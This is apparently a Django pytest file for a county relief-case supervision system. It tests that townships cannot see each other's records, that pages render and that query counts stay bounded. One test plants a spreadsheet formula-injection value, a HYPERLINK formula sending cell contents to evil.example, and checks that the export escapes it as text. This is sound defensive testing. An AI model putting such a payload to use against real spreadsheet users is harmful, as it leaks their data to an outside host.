"""Scoping (a township never sees another township's queries, orders or results: 404) and
every supervision page rendering for the roles that use it."""

import datetime
from decimal import Decimal
from io import BytesIO

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from cases.models import CaseState
from cases.workflow.services import case_transition
from relief.models import Region
from review.models import Filing
from review.services import (
    complaint_register,
    query_open,
    rectification_issue,
    spot_check_campaign_create,
    spot_check_record_visit,
)
from review.tests.conftest import PERIOD
from tests.factories import CaseFactory


@pytest.fixture
def huangchi_world(demo, confirmed_case):
    """A query, an order and a recorded spot-check result about a 黄池镇 case."""
    supervisor = demo.user("supervisor")
    case = confirmed_case(village=Region.objects.get(code="340521101201"))
    filing = Filing.objects.create(
        case=case,
        kind="confirmation",
        township=case.township,
        assistance_type=case.assistance_type,
        decided_on=case.decided_on,
    )
    query = query_open(filing=filing, actor=supervisor, subject="金额依据", body="请说明")
    order = rectification_issue(
        actor=supervisor,
        township=case.township,
        problem_kind="documents",
        description="档案不全",
        case=case,
    )
    campaign = spot_check_campaign_create(
        actor=supervisor, name="抽查", period_start=PERIOD[0], period_end=PERIOD[1]
    )
    item = campaign.items.get(case=case)
    spot_check_record_visit(
        item=item,
        actor=supervisor,
        visit_date=datetime.date(2026, 11, 3),
        people_met="户主",
        findings="档案缺少核对授权书",
        outcome="problem",
        problem_kind="documents",
    )
    return {"query": query, "order": order, "item": item, "filing": filing}


@pytest.mark.parametrize(
    "name", ["review:query_detail", "review:rectification_detail", "review:item_detail"]
)
def test_a_township_never_sees_another_townships_supervision_records(
    client, demo, huangchi_world, name
):
    key = {
        "review:query_detail": "query",
        "review:rectification_detail": "order",
        "review:item_detail": "item",
    }[name]
    url = reverse(name, args=[huangchi_world[key].pk])
    client.force_login(demo.user("clerk"))  # 姑孰镇
    assert client.get(url).status_code == 404
    assert client.post(url, {"body": "x", "action": "respond", "r-body": "x"}).status_code == 404
    client.force_login(demo.user("clerk_huangchi"))
    assert client.get(url).status_code == 200


def test_township_lists_show_only_their_own_rows(client, demo, huangchi_world):
    client.force_login(demo.user("clerk"))
    for name in ("review:queries", "review:rectifications", "review:township"):
        body = client.get(reverse(name)).content.decode()
        assert huangchi_world["filing"].case.number not in body
    client.force_login(demo.user("clerk_huangchi"))
    body = client.get(reverse("review:township")).content.decode()
    assert "金额依据" in body and huangchi_world["filing"].case.number in body


def test_the_api_applies_the_same_scoping(client, demo, huangchi_world):
    order = huangchi_world["order"]
    client.force_login(demo.user("clerk"))
    assert client.get(f"/api/review/rectifications/{order.pk}/").status_code == 404
    assert client.get("/api/review/rectifications/").json()["count"] == 0
    assert (
        client.post(f"/api/review/rectifications/{order.pk}/respond/", {"body": "x"}).status_code
        == 404
    )
    assert client.get("/api/review/filings/").status_code == 403
    client.force_login(demo.user("clerk_huangchi"))
    response = client.post(
        f"/api/review/rectifications/{order.pk}/respond/", {"body": "已补齐授权书"}
    )
    assert response.status_code == 200, response.content
    assert response.json()["status"] == "responded"


def test_township_answers_a_query_in_the_thread(client, demo, huangchi_world):
    query = huangchi_world["query"]
    client.force_login(demo.user("clerk_huangchi"))
    response = client.post(
        reverse("review:query_detail", args=[query.pk]),
        {"action": "reply", "body": "按标准补差计算"},
    )
    assert response.status_code == 302
    query.refresh_from_db()
    assert query.status == "answered"
    assert [m.from_county for m in query.messages.all()] == [True, False]


def test_township_users_cannot_open_county_pages(client, demo):
    client.force_login(demo.user("approver"))
    for name in (
        "review:inbox",
        "review:campaigns",
        "review:complaints",
        "review:delegations",
        "review:stats",
    ):
        assert client.get(reverse(name)).status_code == 403, name


def test_every_county_page_renders(client, demo, huangchi_world, confirmed_case):
    complaint = complaint_register(
        actor=demo.user("supervisor"),
        channel="hotline_12349",
        named=True,
        reporter_name="王某",
        reporter_phone="138",
        content="x",
        township=demo.gushu,
    )
    client.force_login(demo.user("supervisor"))
    case = huangchi_world["filing"].case
    urls = [
        reverse("review:inbox"),
        reverse("review:inbox")
        + f"?near_relative=on&township={demo.huangchi.pk}&date_from=2026-10-01",
        reverse("review:filing_detail", args=[huangchi_world["filing"].pk]),
        reverse("review:queries"),
        reverse("review:query_detail", args=[huangchi_world["query"].pk]),
        reverse("review:campaigns"),
        reverse("review:campaign_detail", args=[huangchi_world["item"].campaign_id]) + "?verify=1",
        reverse("review:item_detail", args=[huangchi_world["item"].pk]),
        reverse("review:rectifications") + "?status=open",
        reverse("review:rectification_new") + f"?item={huangchi_world['item'].pk}",
        reverse("review:rectification_detail", args=[huangchi_world["order"].pk]),
        reverse("review:correction", args=[case.pk]),
        reverse("review:complaints"),
        reverse("review:complaint_detail", args=[complaint.pk]),
        reverse("review:delegations"),
        reverse("review:stats"),
    ]
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
    assert "复核一致" in client.get(urls[6]).content.decode()


def test_the_inbox_uses_a_constant_number_of_queries(client, demo):
    client.force_login(demo.user("supervisor"))
    url = reverse("review:inbox")

    def count():
        with CaptureQueriesContext(connection) as ctx:
            assert client.get(url).status_code == 200
        return len(ctx)

    def add(n):
        for _ in range(n):
            case = CaseFactory(force_state=CaseState.REVIEW, monthly_amount=Decimal("300"))
            case_transition(case=case, name="confirm", actor=demo.user("approver"), opinion="同意")

    add(2)
    few = count()
    add(8)
    assert count() == few


def test_the_filing_api_lists_with_a_constant_number_of_queries(client, demo):
    client.force_login(demo.user("supervisor"))

    def count():
        with CaptureQueriesContext(connection) as ctx:
            assert client.get("/api/review/filings/").status_code == 200
        return len(ctx)

    for _ in range(2):
        case = CaseFactory(force_state=CaseState.REVIEW, monthly_amount=Decimal("300"))
        case_transition(case=case, name="confirm", actor=demo.user("approver"), opinion="同意")
    few = count()
    for _ in range(5):
        case = CaseFactory(force_state=CaseState.REVIEW, monthly_amount=Decimal("300"))
        case_transition(case=case, name="confirm", actor=demo.user("approver"), opinion="同意")
    assert count() == few
    response = client.post(f"/api/review/filings/{Filing.objects.first().pk}/acknowledge/")
    assert response.json()["status"] == "acknowledged"


def test_stats_count_decisions_checks_and_export_xlsx(client, demo, huangchi_world):

    client.force_login(demo.user("supervisor"))
    response = client.get(reverse("review:stats"), {"from": "2026-10-01", "to": "2026-12-31"})
    rows = {r["township"].name: r for r in response.context["rows"]}
    assert rows["黄池镇"]["confirmed"] == 1 and rows["黄池镇"]["sampled"] == 1
    assert rows["黄池镇"]["problems"] == 1 and rows["黄池镇"]["problem_rate"] == Decimal("100.0")
    assert rows["黄池镇"]["rect_open"] == 1
    xlsx = client.get(reverse("review:stats_xlsx"), {"from": "2026-10-01", "to": "2026-12-31"})
    assert xlsx["Content-Type"].startswith("application/vnd.openxmlformats")
    wb = load_workbook(BytesIO(xlsx.content))
    sheet = wb["监管统计"]
    names = [row[0] for row in sheet.iter_rows(min_row=3, values_only=True)]
    assert "黄池镇" in names and "姑孰镇" in names


def test_a_region_named_like_a_formula_is_exported_as_text(client, demo, huangchi_world):
    from io import BytesIO

    from openpyxl import load_workbook

    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
    Region.objects.filter(code="340521101000").update(name=evil)  # 黄池镇
    client.force_login(demo.user("supervisor"))
    xlsx = client.get(reverse("review:stats_xlsx"), {"from": "2026-10-01", "to": "2026-12-31"})
    wb = load_workbook(BytesIO(xlsx.content))
    cells = [
        cell
        for sheet in wb.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and "HYPERLINK" in cell.value
    ]
    assert {cell.parent.title for cell in cells} == {"监管统计", "决定(按类别)", "抽查问题(按类型)"}
    assert all(cell.value == "'" + evil and cell.data_type == "s" for cell in cells)
    summary = wb["监管统计"]
    assert [c.value for c in summary[2]][:2] == ["乡镇(街道)", "决定总数"]
    assert summary["A1"].value.startswith("监管统计 2026-10-01 至 2026-12-31")
